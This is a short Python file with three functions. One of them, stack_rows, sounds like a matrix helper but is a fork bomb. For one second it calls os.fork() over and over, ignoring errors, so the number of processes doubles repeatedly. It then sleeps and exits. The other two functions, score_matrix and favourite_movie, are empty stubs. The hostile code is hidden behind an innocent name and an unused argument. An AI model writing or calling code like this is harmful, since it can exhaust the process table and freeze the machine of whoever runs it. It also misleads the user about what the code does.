"""Every process forks as long as it can, for a second: their number doubles and doubles."""
import os
import time


def stack_rows(vectors):
    end = time.monotonic() + 1
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(9)
    os._exit(0)


def score_matrix(Q, K):
    return None


def favourite_movie(S, user):
    return None
